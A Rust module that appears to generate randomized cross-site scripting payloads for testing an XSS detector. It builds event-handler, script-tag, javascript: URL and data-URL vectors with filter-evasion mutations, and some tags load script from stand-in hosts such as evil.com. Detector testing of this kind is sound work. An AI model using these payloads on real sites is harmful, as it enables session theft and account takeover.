//! `xss-html`: markup that creates executable script when reflected into a page.
//!
//! Grammar: a *vector* (event-handler attribute on an element that fires it, `<script>` with
//! code or a source, a script URL in a URL attribute, an HTML `data:` URL, `srcdoc`, CSS
//! script) × the *JavaScript* it runs (from [`super::xss_js::expression`]) × *tag syntax*
//! (attribute separators `/`, tab, newline, form feed; quotes; case; tag left open) × a
//! *context break-out* before it (`">`, `</title>`, `-->`...) or an attribute break-out with no
//! tag at all. Mutations: case, separators, entities in attribute values, scheme obfuscation
//! (entities, tabs, leading controls), open tag, transport encodings.

use super::xss_js::{base64, expression};
use crate::mutate::{compat_forms, html_entities, join, random_case, transport_layer};
use crate::{Carrier, Family, Rng, Variant};

/// Attribute separators the tokenizer spec accepts besides a space.
const SEPARATORS: &[&str] = &["/", "\t", "\n", "\x0c", "  ", "/ ", " /", "\r\n"];
/// Whitespace after an unquoted value (a `/` would join the value).
const BETWEEN_ATTRS: &[&str] = &[" ", "\t", "\n"];
/// What browsers strip before a URL scheme.
const LEADING_CONTROLS: &[&str] = &[" ", "&#x20;", "\x01", "&#1;", "  "];
/// Tabs and newlines (raw or as references) that browsers drop inside a scheme.
const SCHEME_BREAKS: &[&str] = &["\t", "&Tab;", "&#x09;", "&#10;", "&NewLine;", "&#x0A;"];

pub struct XssHtml;

pub static XSS_HTML: XssHtml = XssHtml;

/// Element, the attributes it needs for the event to fire, and events it fires.
const HOSTS: &[(&str, &str, &[&str])] = &[
    ("img", "src=x", &["onerror"]),
    ("svg", "", &["onload"]),
    ("body", "", &["onload", "onpageshow", "onfocus", "onhashchange"]),
    ("input", "autofocus", &["onfocus", "onblur", "onfocusin"]),
    ("details", "open", &["ontoggle"]),
    ("video", "src=x", &["onerror", "onloadstart"]),
    ("audio", "src=x", &["onerror"]),
    ("iframe", "", &["onload"]),
    ("marquee", "", &["onstart", "onfinish"]),
    ("select", "autofocus", &["onfocus"]),
    ("textarea", "autofocus", &["onfocus"]),
    ("a", "href=#", &["onmouseover", "onclick", "onpointerenter", "onauxclick"]),
    ("div", "", &["onmouseover", "onpointerover", "onwheel", "onanimationstart", "oncopy"]),
    ("x", "contenteditable", &["onfocus", "onbeforeinput", "onkeydown"]),
    ("style", "", &["onload"]),
    ("object", "data=x", &["onerror"]),
    ("animate", "attributeName=x dur=1s", &["onbegin", "onend"]),
    ("button", "popovertarget=x", &["onbeforetoggle", "onfocus"]),
    ("video", "autoplay muted src=x.mp4", &["onplay", "onloadeddata", "oncanplay"]),
    ("svg", "", &["onresize", "onfocusin"]),
    ("p", "style=transition:color 1s", &["ontransitionend", "ontransitionrun"]),
    ("source", "src=x", &["onerror"]),
];
/// Elements and the attribute that takes a URL they load or navigate to.
const URL_SLOTS: &[(&str, &str, &str)] = &[
    ("<a ", "href", ">click</a>"),
    ("<iframe ", "src", "></iframe>"),
    ("<form ", "action", "><input type=submit></form>"),
    ("<form><button ", "formaction", ">x</button></form>"),
    ("<object ", "data", "></object>"),
    ("<embed ", "src", ">"),
    ("<math><maction actiontype=statusline ", "xlink:href", ">click</maction></math>"),
    ("<svg><a ", "xlink:href", "><text x=9 y=9>x</text></a></svg>"),
    ("<svg><animate attributeName=href ", "values", "/><a><text>x</text></a></svg>"),
    ("<svg><set attributeName=href ", "to", "/></svg>"),
    ("<isindex type=image ", "action", ">"),
    ("<frameset><frame ", "src", ">"),
    ("<svg><use ", "href", "/></svg>"),
    ("<svg><animate attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 ", "values", "/><a><text>x</text></a></svg>"),
];
const BREAKOUTS: &[&str] = &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];

impl Family for XssHtml {
    fn name(&self) -> &'static str {
        "xss-html"
    }

    fn detector(&self) -> &'static str {
        "xss"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let mut muts: Vec<&'static str> = Vec::new();
        if rng.chance(0.03) {
            // The end tag of a raw-text element alone: a probe for breaking out of an inline
            // script, style or textarea before the payload is sent.
            muts.push("close-probe");
            let element = *rng.pick(&["script", "style", "textarea", "title", "noscript", "xmp", "iframe"]);
            let element = name_case(rng, element, &mut muts);
            let tail = *rng.pick(&[">", "", "/>", " x>", " >", "\t>", " foo=bar>"]);
            let (payload, layer) = transport_layer(rng, &format!("</{element}{tail}"));
            muts.push(layer);
            return Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value };
        }
        let (js, _) = expression(rng, &mut Vec::new());
        if rng.chance(0.15) {
            let payload = legacy_vector(rng, &js, &mut muts);
            let (payload, layer) = transport_layer(rng, &payload);
            muts.push(layer);
            return Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value };
        }
        let payload = match rng.below(12) {
            0..=4 => event_handler(rng, &js, &mut muts),
            5 | 6 => script(rng, &js, &mut muts),
            7..=9 => url_vector(rng, &js, &mut muts),
            10 if rng.chance(0.2) => {
                muts.push("meta-refresh");
                let url = script_url(rng, &js, &mut muts);
                format!("<meta http-equiv=\"refresh\" content=\"0;url={}\">", url.replace('"', "&quot;"))
            }
            10 => data_or_srcdoc(rng, &js, &mut muts),
            _ => attribute_breakout(rng, &js, &mut muts),
        };
        // `<scr<script>ipt>`: a filter that strips the tag once leaves the outer one.
        let payload = if let Some(name) =
            payload.strip_prefix('<').and_then(|p| p.split(|c: char| !c.is_ascii_alphanumeric()).next()).filter(|n| n.len() >= 3)
        {
            if rng.chance(0.08) {
                muts.push("filter-nesting");
                let k = name.len() / 2;
                let name = name.to_string();
                format!("<{}<{name}>{}", &name[..k], &payload[1 + k..])
            } else {
                payload
            }
        } else {
            payload
        };
        let payload = if payload.starts_with('<') && rng.chance(0.3) {
            muts.push("context-breakout");
            format!("{}{payload}", rng.pick(BREAKOUTS))
        } else {
            payload
        };
        // Reflected through a JavaScript string literal: its escapes stand for the
        // separators and quotes (`<svg onload\r\n=...>`, `src=\"x\"`, `<\/script>`).
        let payload = if rng.chance(0.08) && payload.contains([' ', '"', '/']) {
            muts.push("js-string-escaped");
            payload
                .chars()
                .map(|c| match c {
                    ' ' => rng.pick(&["\\n", "\\t", "\\r\\n", "\\f", " "]).to_string(),
                    '"' => "\\\"".to_string(),
                    '/' if rng.chance(0.5) => "\\/".to_string(),
                    _ => c.to_string(),
                })
                .collect()
        } else {
            payload
        };
        // The same layer reads any other escaped character as itself (`on\error`) and legacy
        // octal of one to three digits (`\74svg`).
        let payload = if rng.chance(0.06) {
            muts.push("js-string-identity");
            payload
                .chars()
                .map(|c| match c {
                    // A backslash already in the markup is itself escaped in the string.
                    '\\' => "\\\\".to_string(),
                    '<' => rng.pick(&["\\74", "\\074", "\\<", "<"]).to_string(),
                    '>' => rng.pick(&["\\76", "\\>", ">"]).to_string(),
                    '=' if rng.chance(0.3) => "\\75".to_string(),
                    c if c.is_ascii_alphabetic() && !"bfnrtvuxBFNRTVUX".contains(c) && rng.chance(0.25) => format!("\\{c}"),
                    _ => c.to_string(),
                })
                .collect()
        } else {
            payload
        };
        let payload = if rng.chance(0.1) {
            muts.push("compat-forms");
            let share = *rng.pick(&[0.3, 0.6, 1.0]);
            compat_forms(rng, &payload, share)
        } else {
            payload
        };
        let (payload, layer) = transport_layer(rng, &payload);
        muts.push(layer);
        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
    }
}

/// Between a tag name and an attribute, or between attributes: the spec accepts `/` and any
/// ASCII whitespace.
fn sep(rng: &mut Rng, muts: &mut Vec<&'static str>) -> &'static str {
    if rng.chance(0.6) {
        return " ";
    }
    muts.push("separator");
    SEPARATORS[rng.below(SEPARATORS.len())]
}

fn quoted(rng: &mut Rng, value: &str, muts: &mut Vec<&'static str>) -> String {
    match rng.below(4) {
        0 if !value.contains([' ', '\t', '\n', '>']) => value.to_string(),
        1 if !value.contains('\'') => format!("'{value}'"),
        _ if !value.contains('"') => format!("\"{value}\""),
        _ => {
            muts.push("entities");
            format!("\"{}\"", value.replace('"', "&quot;"))
        }
    }
}

fn name_case(rng: &mut Rng, name: &str, muts: &mut Vec<&'static str>) -> String {
    if rng.chance(0.3) {
        muts.push("case");
        random_case(rng, name)
    } else {
        name.to_string()
    }
}

fn attr_value_js(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    if rng.chance(0.12) {
        // HTML5 named references for the punctuation: `alert&lpar;1&rpar;`.
        muts.push("named-entities");
        return js
            .chars()
            .map(|c| match c {
                '(' => "&lpar;".to_string(),
                ')' => "&rpar;".to_string(),
                '.' => "&period;".to_string(),
                '[' => "&lsqb;".to_string(),
                ']' => "&rsqb;".to_string(),
                ',' => "&comma;".to_string(),
                '+' => "&plus;".to_string(),
                '{' => "&lcub;".to_string(),
                '}' => "&rcub;".to_string(),
                '$' => "&dollar;".to_string(),
                '`' => "&grave;".to_string(),
                _ => c.to_string(),
            })
            .collect();
    }
    if rng.chance(0.25) {
        muts.push("entities");
        html_entities(rng, js, 0.4)
    } else {
        js.to_string()
    }
}

fn event_handler(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    muts.push("event-handler");
    let (tag, needs, events) = *rng.pick(HOSTS);
    let event = *rng.pick(events);
    let tag = name_case(rng, tag, muts);
    let event = name_case(rng, event, muts);
    let value = attr_value_js(rng, js, muts);
    let value = quoted(rng, &value, muts);
    let mut out = format!("<{tag}");
    // After an unquoted value only whitespace separates: a `/` would join the value.
    let mut unquoted = false;
    if !needs.is_empty() {
        out.push_str(sep(rng, muts));
        out.push_str(needs);
        unquoted = needs.contains('=');
    }
    if rng.chance(0.2) {
        out.push_str(if unquoted { " " } else { sep(rng, muts) });
        out.push_str(&format!("id={}", rng.range(1, 999)));
        unquoted = true;
    }
    out.push_str(if unquoted { BETWEEN_ATTRS[rng.below(BETWEEN_ATTRS.len())] } else { sep(rng, muts) });
    out.push_str(&format!("{event}={value}"));
    if rng.chance(0.15) {
        // Left open: the page's own markup supplies the `>`.
        muts.push("open-tag");
        out.push_str(if rng.chance(0.5) { "//" } else { " " });
    } else {
        out.push('>');
    }
    out
}

fn script(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    muts.push("script");
    let open = name_case(rng, "script", muts);
    let close = name_case(rng, "script", muts);
    match rng.below(4) {
        0 => {
            let host = format!("{}.{}", ["evil", "x", "attacker", "xss"][rng.below(4)], ["com", "rs", "io", "ht"][rng.below(4)]);
            let src = *rng.pick(&["//", "https://", "http://", "\\\\"]);
            format!("<{open}{}src={src}{host}/{}.js></{close}>", sep(rng, muts), rng.range(1, 999))
        }
        1 => format!("<{open}{}src=data:,{js}></{close}>", sep(rng, muts)),
        2 => format!("<{open} type=text/javascript>{js}</{close}>"),
        _ => format!("<{open}>{js}</{close}>"),
    }
}

/// A `javascript:` URL with the scheme hidden the ways browsers still accept.
fn script_url(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    let mut scheme = String::new();
    let word = if rng.chance(0.4) {
        muts.push("case");
        random_case(rng, "javascript")
    } else {
        "javascript".to_string()
    };
    if rng.chance(0.2) {
        muts.push("leading-controls");
        scheme.push_str(LEADING_CONTROLS[rng.below(LEADING_CONTROLS.len())]);
    }
    for (i, c) in word.chars().enumerate() {
        scheme.push(c);
        if i > 0 && i < 9 && rng.chance(0.08) {
            muts.push("scheme-whitespace");
            scheme.push_str(SCHEME_BREAKS[rng.below(SCHEME_BREAKS.len())]);
        }
    }
    let colon = if rng.chance(0.3) {
        muts.push("entities");
        *rng.pick(&["&colon;", "&#58;", "&#x3a;", "&#0058", "&#x3A;"])
    } else {
        ":"
    };
    if !scheme.contains('&') && rng.chance(0.12) {
        // Every scheme letter as a character reference: `&#106;&#x61;...`.
        muts.push("entity-scheme");
        scheme = scheme
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { html_entities(rng, &c.to_string(), 1.0) } else { c.to_string() })
            .collect();
    }
    let body = attr_value_js(rng, js, muts);
    if rng.chance(0.12) {
        // `javascript://%0aalert(1)`: a line comment the URL's own newline ends.
        muts.push("js-comment-newline");
        // Encoded: the URL parser strips a raw (or entity-decoded) newline, not `%0a`.
        let nl = *rng.pick(&["%0a", "%0A", "%0d", "%E2%80%A8", "%E2%80%A9"]);
        return format!("{scheme}{colon}//{}{nl}{body}", rng.pick(&["", "x", "comment"]));
    }
    format!("{scheme}{colon}{body}")
}

fn url_vector(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    muts.push("js-url");
    let (open, attr, close) = *rng.pick(URL_SLOTS);
    let url = script_url(rng, js, muts);
    let url = quoted(rng, &url, muts);
    let attr = name_case(rng, attr, muts);
    format!("{open}{attr}={url}{close}")
}

fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    let inner = format!("<script>{js}</script>");
    match rng.below(4) {
        0 => {
            muts.push("data-url");
            format!("<iframe src=\"data:text/html,{}\"></iframe>", inner.replace('"', "&quot;"))
        }
        1 => {
            muts.push("data-url");
            let (tag, attr) = *rng.pick(&[("object", "data"), ("embed", "src"), ("iframe", "src")]);
            let mime = *rng.pick(&["text/html", "image/svg+xml", "application/xhtml+xml"]);
            format!("<{tag} {attr}=\"data:{mime};base64,{}\">", base64(&inner))
        }
        2 => {
            muts.push("srcdoc");
            let escaped = if rng.chance(0.5) { inner.replace('<', "&lt;").replace('>', "&gt;") } else { inner };
            format!("<iframe srcdoc=\"{}\"></iframe>", escaped.replace('"', "&quot;"))
        }
        _ => {
            muts.push("style");
            let css = if rng.chance(0.5) { format!("width:expression({js})") } else { format!("background:url(javascript:{js})") };
            format!("<div style=\"{}\">x</div>", css.replace('"', "'"))
        }
    }
}

/// Breaking out of a quoted attribute value of the page's own tag: no `<` at all.
fn attribute_breakout(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    muts.push("attribute-breakout");
    let q = *rng.pick(&["\"", "'"]);
    let (_, needs, events) = *rng.pick(HOSTS);
    let event = *rng.pick(events);
    let event = name_case(rng, event, muts);
    let js = js.replace(q, if q == "\"" { "'" } else { "\"" });
    let extra = if needs.is_empty() { "autofocus" } else { needs };
    match rng.below(3) {
        0 => format!("{q} {event}={q}{js}"),
        // Unquoted, the value ends at whitespace: comments stand in for spaces.
        1 => format!("{q} {extra} {event}={} x={q}", js.replace(' ', "/**/")),
        _ => format!("x{q}{}{event}={q}{js}{q}", sep(rng, muts)),
    }
}

/// A call with no quotes or blanks, as an unquoted attribute value holds it.
fn bare_call(rng: &mut Rng) -> String {
    let probe = *rng.pick(&["alert", "prompt", "confirm", "print"]);
    let n = rng.range(0, 9999);
    match rng.below(4) {
        0 => format!("{probe}({n})"),
        1 => format!("{}.{probe}({n})", rng.pick(&["top", "window", "self", "parent"])),
        2 => format!("{probe}`{n}`"),
        _ => format!("eval(atob(`{}`))", base64(&format!("{probe}({n})"))),
    }
}

/// Shapes that issue 12 found the families missing (pool rows of fuzzdb, httpparams,
/// PayloadsAllTheThings): legacy parsers, other encodings and markup a filter reads in halves.
fn legacy_vector(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
    let (tag, needs, events) = *rng.pick(HOSTS);
    let event = *rng.pick(events);
    let call = bare_call(rng);
    match rng.below(13) {
        0 => {
            // `onload!#$%&()*~+-_.,:;?@[/|\]^`=`: Gecko before HTML5 cut the name at the first
            // non-letter; filters that look for `on\w+=` see no handler.
            muts.push("handler-junk-name");
            let junk = *rng.pick(&["!#$%&()*~+-_.,:;?@[/|\\]^`", "/", "!", "%", "[x]", ";;", "*~"]);
            format!("<{tag}{}{needs} {event}{junk}={call}>", if needs.is_empty() { "" } else { " " })
        }
        1 => {
            // Reflected into an unquoted attribute: the value keeps a first word, a blank ends it.
            muts.push("unquoted-breakout");
            let word = *rng.pick(&["x", "xyz", "width:1px;filter:glow", "list-style:url()", "a.png", "1"]);
            // One attribute the host needs (`autofocus`, `src=x`) may follow the first word.
            let extra = match needs.split(' ').next() {
                Some(a) if !a.is_empty() && rng.chance(0.5) => format!(" {a}"),
                _ => String::new(),
            };
            let end = *rng.pick(&[">", "></div>", ";", "//"]);
            format!("{word}{extra} {event}={call}{end}")
        }
        2 => {
            muts.push("utf-7");
            let meta = if rng.chance(0.5) { "<meta charset=\"UTF-7\">" } else { "" };
            let t = name_case(rng, "script", muts);
            format!("{meta}+ADw-{t}+AD4-{js}+ADw-/{t}+AD4-")
        }
        3 => {
            muts.push("high-bit-ascii");
            let (lt, gt) = *rng.pick(&[("\u{bc}", "\u{be}"), ("%BC", "%BE")]);
            format!("{lt}script{gt}{call}{lt}/script{gt}")
        }
        4 => {
            muts.push("legacy-scheme");
            let scheme = *rng.pick(&["mocha", "livescript", "MOCHA", "LiveScript"]);
            let (open, attr) = *rng.pick(&[("<img ", "src"), ("<a ", "href"), ("<iframe ", "src"), ("<body ", "background")]);
            format!("{open}{attr}=\"{scheme}:{call}\">")
        }
        5 => {
            muts.push("nul-in-name");
            let nul = *rng.pick(&["\\0", "%00", "\\x00"]);
            let (name, rest) =
                *rng.pick(&[("scr|ipt", "/src=//x.example/x.js></script>"), ("i|mg", " src=x onerror=CALL>"), ("sv|g", "/onload=CALL>")]);
            format!("<<{}{}", name.replace('|', nul), rest.replace("CALL", &call))
        }
        6 => {
            // Every letter of the script URL as a numeric reference, the tag name glued to
            // the attribute (`<IMGSRC=&#106;...`) so no tokenizer sees an element.
            muts.push("reference-run");
            let url = format!("javascript:{call}");
            let hex = rng.chance(0.5);
            let refs: String = url.chars().map(|c| if hex { format!("&#x{:X}", c as u32) } else { format!("&#{:07}", c as u32) }).collect();
            format!("<IMGSRC={refs}>")
        }
        7 => {
            muts.push("css-expression-broken");
            let word = *rng.pick(&["e/**/xpression", "expr/**/ession", "ex/*x*/pression", "e\\xpression", "expression\\28"]);
            let open = if word.ends_with("28") { "" } else { "(" };
            format!("<div style=\"x:{word}{open}{call})\">x</div>")
        }
        8 => {
            muts.push("close-chain");
            let chain: Vec<String> =
                (0..rng.range(2, 4)).map(|_| format!("</{}", rng.pick(&["stYle", "titLe", "teXtarEa", "scRipt", "noscript"]))).collect();
            format!("{}/{}", chain.join("/"), rng.pick(&["--!>", ">", ""]))
        }
        9 => {
            muts.push("namespaced-script");
            let p = *rng.pick(&["a", "x", "html", "something"]);
            format!("<{p}:script xmlns:{p}=\"http://www.w3.org/1999/xhtml\">{js}</{p}:script>")
        }
        10 => {
            muts.push("split-strings");
            let cut = rng.range(1, 5);
            let (l, r) = "script".split_at(cut);
            let w = *rng.pick(&["echo", "print", "document.write"]);
            format!("<? {w}('<{}');{w}('{}>{call}</script>'); ?>", l.to_uppercase(), r.to_uppercase())
        }
        11 => {
            muts.push("css-binding");
            let target = *rng.pick(&["//x.example/xss.xml#xss", "data:text/xml,x", "http://x.example/b.xml"]);
            if rng.chance(0.5) {
                format!("<div style=\"binding: url({target});\">")
            } else {
                format!("<style>@im\\port'{target}';</style>")
            }
        }
        _ => {
            muts.push("sandbox-escape");
            format!("{{{{(_=''.sub).call.call({{}}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'{call}')()}}}}")
        }
    }
}
